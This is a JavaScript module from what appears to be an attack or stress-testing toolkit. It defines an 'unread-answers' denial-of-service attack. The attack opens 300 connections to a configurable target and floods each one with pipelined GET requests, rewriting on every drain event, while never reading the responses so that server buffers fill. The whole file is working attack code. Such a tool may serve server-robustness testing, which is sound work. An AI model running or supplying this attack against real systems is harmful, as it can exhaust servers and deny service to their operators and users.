import { holdConnections, requestText } from '../attack.js';

const page = requestText('GET', '/');
/** As many as fit into one write; unread requests wait in the kernel. */
const pipelined = page.repeat(200);

/** Pipelined requests on each connection whose answers are never read. */
export default {
  name: 'unread-answers',
  title: '300 connections that pipeline pages and never read',
  attack: ({ target, from, connections = 300 }) =>
    holdConnections({
      target,
      from,
      count: connections,
      use(socket) {
        const write = () => {
          while (!socket.destroyed && socket.write(pipelined));
        };
        socket.on('drain', write);
        write();
        return () => socket.off('drain', write);
      },
    }),
};
